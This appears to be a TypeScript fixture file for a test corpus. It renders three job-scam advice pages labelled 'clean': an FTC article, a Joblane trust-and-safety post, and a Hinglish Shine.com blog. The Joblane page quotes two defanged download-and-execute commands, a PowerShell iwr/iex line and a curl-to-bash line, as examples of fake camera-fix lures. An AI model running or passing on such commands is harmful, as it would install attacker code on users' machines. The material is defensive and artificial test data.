import type { Entry } from '../entry.js';
import { analytics, cookieBar, cssArticle, cssBase, doc, mark } from '../parts/yr-kit.js';

export const entries: Entry[] = [
  {
    id: 'yr-ftc-consumer-advice-job-scams',
    label: 'clean',
    kind: 'security-advice-article',
    url: 'https://consumer.ftc.gov/articles/job-scams',
    body: doc({
      title: 'Job Scams | Consumer Advice',
      css: cssArticle + `.tip{background:#eef5fb;border:1px solid #c8dcee;padding:12px 16px;font-family:Arial,sans-serif;font-size:15px}`,
      body: `<header class="site"><b style="color:#1c3d5a">FEDERAL TRADE COMMISSION</b><span style="font-family:Arial;font-size:13px;color:#555">CONSUMER ADVICE</span><nav style="margin-left:auto"><a href="/features/scam-alerts">Scams</a><a href="/jobs-making-money">Jobs and Making Money</a><a href="https://reportfraud.ftc.gov/">Report Fraud</a></nav></header>
<main class="article"><h1>Job Scams</h1><p class="byline">Consumer Alert</p>
<p>Scammers advertise jobs the same way honest employers do — online, in ads, even on job sites. They might promise you a job, but what they want is your money and your personal information.</p>
<h2>Signs of a job scam</h2><ul><li><b>Employers who pay you to do little or nothing.</b> If someone offers you money to like videos, rate products or "boost" apps, then asks you to pay to unlock more tasks, it's a scam.</li><li><b>You have to pay to get the job.</b> Honest employers will never ask you to pay for training, certification, or equipment.</li><li><b>They send you a check and ask you to send money back.</b> The check will bounce and you'll owe the bank.</li></ul>
<h2>Messages we've seen</h2><blockquote>"Hi, I'm Linda from the HR department. Your resume was recommended. The job is simple: help merchants increase their product ratings. 30–60 minutes a day, earn $200–$800. Are you interested? Please add me on WhatsApp."</blockquote>
<blockquote>"Congratulations on your new position! We've mailed you a check for $4,870 to buy your home office equipment. Please deposit it and send the balance to our approved vendor via Zelle."</blockquote>
<p class="tip">If you paid a scammer with a gift card, wire transfer, credit or debit card, or cryptocurrency, contact the company or bank you used right away. Then report it at <a href="https://reportfraud.ftc.gov/">ReportFraud.ftc.gov</a>.</p></main>
<footer class="site">Federal Trade Commission · 600 Pennsylvania Avenue, NW, Washington, DC 20580</footer>`,
    }),
  },
  {
    id: 'yr-joblane-trust-task-scams-and-fake-interviews',
    label: 'clean',
    kind: 'security-advice-article',
    url: 'https://joblane.com/trust/blog/task-scams-and-fake-interviews',
    body: doc({
      title: 'Task scams and fake interviews: what we saw this quarter – Joblane Trust & Safety',
      css: cssArticle,
      body: `<header class="site">${mark.joblane}<nav><a href="/jobs">Jobs</a><a href="/trust">Safety center</a><a href="/trust/report">Report a scam</a></nav></header>
<main class="article"><h1>Task scams and fake interviews: what we saw this quarter</h1><p class="byline">Joblane Trust &amp; Safety team · 7 min read</p>
<p>Between July and September our abuse desk reviewed more than 4,000 reports from candidates and employers. Two patterns dominated: “task” jobs that end with a demand for a crypto deposit, and fake video interviews that ask candidates to run a command to “fix” their camera.</p>
<h2>1. Task jobs</h2><p>The first message usually arrives on WhatsApp or Telegram and mentions a real company name:</p>
<blockquote>“Hello, I am Amy, a recruiter for OptiRank Digital. We are hiring part-time remote staff, you can earn 300–800 USD daily by rating merchant products. No experience needed. Can I tell you more?”</blockquote>
<p>After a few small payouts the victim is told their account has a “combination order” and a negative balance that must be topped up in USDT. Nobody ever gets that money back.</p>
<h2>2. “Fix your camera” interviews</h2><p>Candidates — often in crypto and finance — receive an invitation to a video interview on a look-alike site. The camera “fails” and the page copies a command to the clipboard. We have seen these (defanged, do not run them):</p>
<pre>powershell -w h -nop -c "$r=iwr -useb hxxps://cdn.talentsync-video[.]com/drv/camfix.ps1;iex $r"</pre>
<pre>curl -sk hxxps://api.nexvora-meet[.]io/driver/ffmpeg-macos.sh -o /tmp/ffmpeg.sh &amp;&amp; bash /tmp/ffmpeg.sh</pre>
<p>No legitimate interview platform works this way. HireVue, Zoom, Teams and Google Meet all run in the browser or in their own signed apps downloaded from their own websites.</p>
<h2>What Joblane does</h2><ul><li>Employers are verified before they can message candidates.</li><li>Messages containing off-platform payment requests are flagged.</li><li>Candidates can report any job with one click.</li></ul>
<p>If you think you've been targeted, <a href="/trust/report">report it to us</a> and, in the US, to <a href="https://reportfraud.ftc.gov/">the FTC</a>.</p></main>
<footer class="site">© 2025 Joblane, Inc. · <a href="/privacy">Privacy</a> · <a href="/terms">Terms</a></footer>`,
    }),
  },
  {
    id: 'yr-hinglish-shine-blog-fake-offer-letter',
    label: 'clean',
    kind: 'security-advice-article',
    url: 'https://www.shine.com/blog/fake-offer-letter-kaise-pehchaane/',
    body: doc({
      title: 'Fake Offer Letter Kaise Pehchaane? 7 Red Flags | Shine.com Blog',
      lang: 'en-IN',
      css: cssArticle,
      body: `<header class="site"><b style="color:#f37021">shine</b>.com<nav style="margin-left:auto"><a href="/jobs">Jobs</a><a href="/blog">Career Advice</a></nav></header>
<main class="article"><h1>Fake offer letter kaise pehchaane? 7 red flags jo aapko pata hone chahiye</h1><p class="byline">Shine Editorial · 6 min read</p>
<p>Fresher ho ya experienced, aajkal WhatsApp aur email par “TCS / Infosys offer letter” bhejne wale fraud bahut badh gaye hain. Ye log aapse “laptop security deposit” ya “document verification fee” maangte hain.</p>
<h2>Ek real fraud message</h2><blockquote>“Congratulations! Aapka selection ho gaya hai. Refundable laptop security deposit ₹4,999 UPI par pay karein, warna offer 48 hours mein withdraw ho jayega.”</blockquote>
<h2>Red flags</h2><ol><li>Koi bhi genuine company joining ke liye paisa nahi maangti.</li><li>Offer letter Gmail/Outlook ID se aaya hai, company domain se nahi.</li><li>Interview hua hi nahi, ya sirf WhatsApp chat par hua.</li><li>Net banking password, ATM PIN ya OTP maanga ja raha hai.</li><li>UPI ID kisi individual ke naam par hai.</li><li>Bahut zyada urgency: “48 ghante mein pay karo”.</li><li>Company ki official careers site par ye job listed hi nahi hai.</li></ol>
<p>Shak ho to company ke official careers page par job ID verify karein aur cybercrime.gov.in par ya 1930 helpline par report karein.</p></main>
<footer class="site">© 2025 Shine.com · HT Media Ltd.</footer>`,
    }),
  },
];
